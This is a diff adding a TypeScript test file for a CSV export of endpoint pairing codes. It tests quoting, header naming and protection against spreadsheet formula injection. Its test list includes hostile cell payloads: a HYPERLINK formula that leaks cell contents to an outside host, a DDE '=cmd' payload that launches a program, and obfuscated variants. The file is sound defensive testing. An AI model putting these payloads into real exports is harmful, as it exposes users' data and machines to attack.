@@ -1,0 +1,102 @@
+import assert from 'node:assert/strict';
+import Papa from 'papaparse';
+import { filledCsv, filledRows } from '../../../../src/rollout/export/filled-list';
+import { aRecord, BARE } from './records';
+
+const FETCHED_AT = '2030-06-15T12:00:00.000Z';
+/** A record with these cells. */
+const cells = (...values: readonly string[]) => aRecord({ values });
+
+describe('filledRows', () => {
+  it('puts the codes behind their columns, which stay as they are', () => {
+    const records = [cells('Berlin', ' EP-1 ', '0007'), { ...BARE, values: ['Bern', 'EP-2', ''] }];
+    assert.deepEqual(filledRows(['Site', 'ID', ''], records, 3), [
+      ['Site', 'ID', '', 'Pairing code', 'Pairing code ID', 'State', 'Fetched at'],
+      ['Berlin', ' EP-1 ', '0007', '123456', 'PC-1', 'done', FETCHED_AT],
+      ['Bern', 'EP-2', '', '', '', 'failed: No endpoint has this ID (404)', ''],
+    ]);
+  });
+
+  it('names the columns of a list without a header', () => {
+    const [header] = filledRows(undefined, [cells('EP-1')], 2);
+    assert.deepEqual(header?.slice(0, 3), ['Column 1', 'Column 2', 'Pairing code']);
+  });
+
+  it('pads short rows, and cuts no long one', () => {
+    const rows = filledRows(['ID'], [cells(), cells('EP-1', 'x')], 1);
+    assert.deepEqual(
+      rows.map((row) => row.slice(0, 3)),
+      [
+        ['ID', '', 'Pairing code'],
+        ['', '', '123456'],
+        ['EP-1', 'x', '123456'],
+      ],
+    );
+  });
+
+  it('gives its columns names that theirs do not have', () => {
+    const header = ['ID', 'pairing code', 'Pairing code (2)', ' State ', 'Fetched at'];
+    const [names] = filledRows(header, [], 5);
+    assert.deepEqual(names?.slice(5), ['Pairing code (3)', 'Pairing code ID', 'State (2)', 'Fetched at (2)']);
+  });
+});
+
+describe('filledCsv', () => {
+  const rows = filledRows(
+    ['ID', 'Note'],
+    [aRecord({ values: ['EP-1', '=1+1'], code: '=2', pairingCodeId: '-3' })],
+    2,
+  );
+
+  it('has a byte order mark and CRLF, and quotes where they are needed', () => {
+    const text = filledCsv([['a"b', 'c\nd', 'e;f', ' g', 'h', '1', 'i', 'j', 'k']], ';', false);
+    assert.equal(text, '\ufeff"a""b";"c\nd";"e;f";" g";h;1;i;j;k');
+    assert.equal(filledCsv(rows, ',', false).split('\r\n').length, 2);
+  });
+
+  it('guards the codes against formulas, and leaves their cells alone', () => {
+    const { data } = Papa.parse<string[]>(filledCsv(rows, '\t', false));
+    assert.deepEqual(data[1]?.slice(0, 4), ['EP-1', '=1+1', "'=2", "'-3"]);
+  });
+
+  it('guards their cells too where these come from a workbook', () => {
+    const { data } = Papa.parse<string[]>(filledCsv(rows, ',', true));
+    assert.deepEqual(data[1]?.slice(0, 4), ['EP-1', "'=1+1", "'=2", "'-3"]);
+  });
+
+  /** Writes a code, and reads it as a spreadsheet does. */
+  const codeInCsv = (code: string) => {
+    const csv = filledCsv(filledRows(undefined, [aRecord({ values: ['EP-1'], code })], 1), ',', false);
+    return Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' }).data[1]?.[1];
+  };
+
+  const formulas = [
+    '=HYPERLINK("http://example.com?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '\u00a0=1',
+    '\u200b=1',
+    '\0=1',
+    '＝1',
+    '\ttab',
+    "'=1",
+    "''-1",
+  ];
+  for (const text of formulas) {
+    it(`guards a code that is a formula so that it can be restored: ${JSON.stringify(text)}`, () => {
+      assert.equal(codeInCsv(text), `'${text}`);
+    });
+  }
+
+  for (const text of ["'", "'a", 'a=1', 'a-b', '1-2', '', '…=']) {
+    it(`adds no guard to a code that needs none: ${JSON.stringify(text)}`, () => {
+      assert.equal(codeInCsv(text), text);
+    });
+  }
+});
